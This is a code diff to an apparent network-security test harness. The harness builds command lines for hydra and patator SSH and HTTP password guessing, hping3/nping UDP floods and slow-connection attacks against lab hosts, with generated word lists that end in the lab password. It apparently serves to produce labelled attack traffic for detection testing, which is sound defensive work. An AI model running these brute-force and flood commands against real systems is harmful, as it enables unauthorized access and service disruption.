@@ -10,12 +10,14 @@ import random
 import time
 from dataclasses import dataclass
 
-from server import ACCOUNT, PASSWORD
+from server import ACCOUNT, DOMAIN, PASSWORD
 from topology import ATTACKER, CLIENTS, NOBODY_V4, SCRATCH, SERVER
 
 # A window begins a little before the tool starts and ends a little after it ended.
 MARGIN_BEFORE_S = 0.2
 MARGIN_AFTER_S = 0.5
+
+HYDRA_SSH_WORDS_MAX = 16
 
 
 @dataclass(frozen=True)
@@ -38,7 +40,7 @@ FULL = Scale(ports_count=30, scan_rate_max=100, service_probes=True,
              slow_connections_count=45, slow_s=15, passwords_count=60, limit_s=30)
 SMALL = Scale(ports_count=24, scan_rate_max=100, service_probes=True,
               flood_packets_count=500, flood_interval_us=1000,
-              slow_connections_count=30, slow_s=10, passwords_count=36, limit_s=30)
+              slow_connections_count=30, slow_s=10, passwords_count=24, limit_s=30)
 QUICK = Scale(ports_count=10, scan_rate_max=300, service_probes=False,
               flood_packets_count=150, flood_interval_us=1000,
               slow_connections_count=10, slow_s=1, passwords_count=4, limit_s=8)
@@ -124,8 +126,8 @@ def udpflood(scale):
         ["hping3", "-q", "-n", "--udp", "-p", 9000, "-d", 400, "-c", count,
          "-i", f"u{scale.flood_interval_us}", SERVER.v4],
         # Without privileges nping sends through sockets, which fill in the checksum.
-        ["nping", "-6", "-q", "--unprivileged", "--udp", "-p", 9000, "--data-length", 400, "-c", count,
-         "--rate", 1_000_000 // scale.flood_interval_us, SERVER.v6],
+        ["nping", "-6", "-q", "--unprivileged", "--udp", "-p", 9000, "--data-length", 400,
+         "-c", count, "--rate", 1_000_000 // scale.flood_interval_us, SERVER.v6],
     ]
 
 
@@ -140,13 +142,21 @@ def slowbody(scale):
 
 
 def ssh_guessing(scale):
-    """hydra guesses the account's ssh password; the last word of its IPv4 list is right."""
-    return _guess(scale, "ssh://{}")
+    """patator guesses the account's ssh password once a connection, hydra several times."""
+    commands = []
+    # patator takes an IPv6 address only by a name.
+    for version, address in (("v4", SERVER.v4), ("v6", f"six.{DOMAIN}")):
+        commands.append(["patator", "ssh_login", f"host={address}", f"user={ACCOUNT}",
+                         "password=FILE0", f"0={_words(scale.passwords_count, version)}",
+                         "persistent=0", "-t", 3, "--rate-limit=0.2",
+                         "-x", "ignore:mesg=Authentication failed."])
+    few = min(HYDRA_SSH_WORDS_MAX, scale.passwords_count)
+    return [*commands, *_hydra(few, "ssh://{}")]
 
 
 def http_guessing(scale):
     """hydra guesses the basic-auth password of /private/."""
-    return _guess(scale, "http-get://{}/private/")
+    return _hydra(scale.passwords_count, "http-get://{}/private/")
 
 
 def _slow(scale, *mode, path):
@@ -156,15 +166,21 @@ def _slow(scale, *mode, path):
             [*slow, "-u", f"http://[{SERVER.v6}]{path}"]]
 
 
-def _guess(scale, service):
-    rng = random.Random(scale.passwords_count)
-    words = [f"{rng.choice(('winter', 'dragon', 'letmein', 'monkey'))}{rng.randrange(10_000)}"
-             for _ in range(scale.passwords_count)]
-    (SCRATCH / "words-v4").write_text("\n".join([*words, PASSWORD]) + "\n")
-    (SCRATCH / "words-v6").write_text("\n".join(words[: len(words) // 2]) + "\n")
+def _hydra(words_count, service):
     hydra = ["hydra", "-I", "-q", "-l", ACCOUNT, "-t", 4]
-    return [[*hydra, "-P", SCRATCH / "words-v4", service.format(SERVER.v4)],
-            [*hydra, "-6", "-P", SCRATCH / "words-v6", service.format(f"[{SERVER.v6}]")]]
+    return [[*hydra, "-P", _words(words_count, "v4"), service.format(SERVER.v4)],
+            [*hydra, "-6", "-P", _words(words_count, "v6"), service.format(f"[{SERVER.v6}]")]]
+
+
+def _words(count, version):
+    """A word list; over IPv4 the guesser is lucky at the end."""
+    rng = random.Random(f"{count}/{version}")
+    words = [f"{rng.choice(('winter', 'dragon', 'letmein', 'monkey'))}{rng.randrange(10_000)}"
+             for _ in range(count - 1)]
+    words.append(PASSWORD if version == "v4" else "letmein")
+    path = SCRATCH / f"words-{count}-{version}"
+    path.write_text("\n".join(words) + "\n")
+    return path
 
 
 def _both_families(protocol, port):
